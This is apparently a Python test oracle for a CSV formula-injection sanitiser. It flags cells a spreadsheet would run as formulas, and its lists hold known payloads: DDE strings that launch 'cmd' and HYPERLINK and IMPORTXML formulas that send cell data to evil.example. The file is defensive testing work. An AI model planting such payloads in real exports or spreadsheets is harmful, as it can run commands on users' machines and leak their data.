"""The attacker's view of a CSV: which cells a spreadsheet would run as a formula.

Written independently of `provisioner.csvsafe`, as the oracle the tests check it
against: a cell is live when, after spaces (which importers may trim), it starts with
one of = + - @ (or their full-width forms), tab or carriage return; the only cells
allowed to start with `+` are E.164 numbers in phone columns.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

LIVE_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
PHONE_HEADERS = {"phone", "mobile", "contact", "cell", "phone_number"}
E164 = re.compile(r"\+[1-9][0-9]{6,14}")

# Formula shapes seen in the wild (OWASP, DDE payloads, Google Sheets imports), each
# as a whole cell; the tests put them in every column type.
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    " =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "==1",
    "=-1",
]
EMAILS = [
    "=1+1@evil.example",
    "+1+1@evil.example",
    "-1+1@evil.example",
    "@evil.example",
    "=cmd|'/c calc'!a0@evil.example",
    "+cmd|'/c calc'!a0@evil.example",
    '=hyperlink("http://evil.example")@x.be',
    "-2+3@evil.example",
    "@sum(a1)@evil.example",
    "=a1@evil.example",
    "\t=1@evil.example",
]
PHONES = [
    "+1+1",
    "+32470123456+1",
    "-32470123456",
    "=32470123456",
    "@32470123456",
    "+cmd|' /C calc'!A0",
    "+32 470 12 34 56",
    "+0470123456",
    "+3247012345678901234",
    " +32470123456",
    "\t+32470123456",
]


def live_cells(path: Path) -> list[tuple[int, str, str]]:
    """(line, column, cell) of every cell of `path` a spreadsheet would run."""
    with path.open(encoding="utf-8", newline="") as handle:
        reader = csv.reader(handle)
        header = next(reader, [])
        found = [(1, "header", name) for name in header if is_live(name, phone=False)]
        for line, row in enumerate(reader, start=2):
            for name, cell in zip(header, row, strict=False):
                if is_live(cell, phone=name in PHONE_HEADERS):
                    found.append((line, name, cell))
    return found


def is_live(cell: str, phone: bool) -> bool:
    if phone and E164.fullmatch(cell):
        return False
    return cell.lstrip(" \u00a0").startswith(LIVE_STARTS)


def every_csv(root: Path) -> list[Path]:
    """Every CSV file under `root`, releases and hidden files included."""
    return sorted(path for path in root.rglob("*.csv") if path.is_file())
